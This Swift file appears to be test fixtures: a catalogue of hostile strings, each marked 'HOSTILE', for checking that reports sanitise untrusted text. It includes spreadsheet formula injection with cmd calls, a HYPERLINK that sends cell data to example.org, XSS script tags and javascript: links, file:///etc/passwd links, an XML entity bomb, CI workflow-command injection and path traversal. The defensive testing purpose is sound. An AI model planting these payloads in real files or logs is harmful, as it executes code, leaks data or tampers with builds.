/// Texts that somebody could put on a page to harm who reads the reports, each with the mark in it.
enum HostileText {
  /// Stands in every text, so that a reader of the outputs finds it wherever it went.
  static let mark = "HOSTILE"

  static let all: [(name: String, text: String)] = formulas + markup + logs + characters + links + names + sizes

  /// What a spreadsheet would run.
  static let formulas: [(name: String, text: String)] = [
    ("formula", "=HYPERLINK(\"http://example.org/?x=\"&A1,\"HOSTILE\")"), ("plus formula", "+cmd|' /C calc'!HOSTILE"),
    ("minus formula", "-2+3+cmd|' /C HOSTILE'!A0"), ("at formula", "@SUM(1+1)*cmd|' /C HOSTILE'!A0"),
    ("formula after a tab", "\t=1+HOSTILE"), ("formula after a space", "  =1+HOSTILE"),
    ("formula after a no-break space", "\u{A0}=1+HOSTILE"), ("formula in quotes", "\"=1+HOSTILE\",\"=2\""),
    ("array formula", "{=HOSTILE()}"), ("wide formula", "＝HOSTILE()"),
    ("small formula", "﹦HOSTILE()"), ("formula behind a space without width", "\u{200B}=HOSTILE()"),
    ("formula behind a byte order mark", "\u{FEFF}+HOSTILE()"),
  ]

  /// What Markdown or HTML would obey.
  static let markup: [(name: String, text: String)] = [
    ("end of a table", "</td></table><script>alert('HOSTILE')</script>"), ("pipes", "HOSTILE | a || b |"),
    ("back-slashes and pipes", "HOSTILE \\| a \\\\| b \\"), ("back-ticks", "```HOSTILE `a` ``"),
    ("mention", "@HOSTILE and @somebody"), ("issue", "#1 HOSTILE and org/name#2"), ("comment", "<!-- HOSTILE"),
    ("heading", "# HOSTILE"), ("rule", "--- HOSTILE"), ("picture", "![HOSTILE](https://example.org/track.png)"),
    ("formula of mathematics", "$\\HOSTILE{x}$ $$y$$"),
    ("chart", "HOSTILE\"];click a href \"javascript:b\" %%{init: {}}%%"),
  ]

  /// What a build log would obey.
  static let logs: [(name: String, text: String)] = [
    ("workflow command", "::error file=a,line=1::HOSTILE"),
    ("workflow command after a space", "  ::set-env name=HOSTILE::a"),
    ("old workflow command", "a ##[error]HOSTILE"), ("pipeline command", "a ##vso[task.setvariable variable=a]HOSTILE"),
    ("workflow command on a line", "a &#10;::error::HOSTILE &#13;&#10;::warning::HOSTILE"),
  ]

  /// Characters that no text should hold.
  static let characters: [(name: String, text: String)] = [
    ("control characters", "HOSTILE\u{1}\u{8}\u{B}\u{1B}[31m\u{7F}\u{85}\u{9B}1m"), ("NUL", "HOST\u{0}ILE HOSTILE"),
    ("control characters as entities", "HOSTILE&#1;&#27;[2J&#x85;&#0;"), ("noncharacters", "HOSTILE\u{FFFE}\u{FFFF}"),
    ("noncharacters as entities", "HOSTILE&#xFFFF;&#xD800;&#x110000;"),
    ("escape of a cell", "_x0041_HOSTILE_x005F_x000D_"),
    ("bidirectional override", "\u{202E}HOSTILE\u{2066}abc\u{202C}\u{2069}"),
    ("override as entity", "&#x202E;HOSTILE &#8238;"), ("line separators", "HOSTILE\u{2028}=1+1\u{2029}::error::a"),
    ("combining marks", "HOSTILE" + String(repeating: "\u{301}", count: 3_000)),
    ("invisible", "HOST\u{200B}ILE HOSTILE\u{FEFF}\u{AD}"),
  ]

  /// Links to what is no web page, and entities that grow.
  static let links: [(name: String, text: String)] = [
    ("script link", "javascript:alert('HOSTILE')"), ("script link in Markdown", "[HOSTILE](javascript:alert(1))"),
    ("script link with a tab", "java\tscript:HOSTILE"), ("file link", "file:///etc/passwd?HOSTILE"),
    ("file link in Markdown", "[a](file:///etc/passwd) HOSTILE"), ("data link", "data:text/html,<b>HOSTILE"),
    ("link within a link", "https://example.org/?a=internal:HOSTILE!A1&b=external:c"),
    ("link with brackets", "https://example.org/a)<b>|HOSTILE"),
    ("entity bomb", "<!DOCTYPE a [<!ENTITY b \"HOSTILE\"><!ENTITY c \"&b;&b;&b;\">]>&c;&c;"),
    ("entity in entity", "HOSTILE &amp;amp;amp;lt;script&amp;gt; &lt;b&gt; &#60;script&#62;"),
  ]

  /// What a workbook names.
  static let names: [(name: String, text: String)] = [
    ("name of a sheet", "History"), ("name of our sheet", "Methods"), ("cell", "R1C1"),
    ("defined name", "_xlnm.Print_Area"),
    ("reference", "HOSTILE!$A$1:$B$2"), ("signs that names refuse", "HOSTILE[]:*?/\\'"),
    ("identifier", "uncurated:HOSTILE"),
    ("path", "../../HOSTILE/../../etc"),
  ]

  /// What does not fit.
  static let sizes: [(name: String, text: String)] = [
    ("100,000 characters", "HOSTILE" + String(repeating: "abcdefghi ", count: 10_000)),
    ("100,000 characters without a space", "HOSTILE" + String(repeating: "x", count: 100_000)),
    ("100,000 formulas", String(repeating: "=HOSTILE,", count: 12_000)),
    ("40,000 emoji", "HOSTILE" + String(repeating: "😀", count: 40_000)),
  ]
}
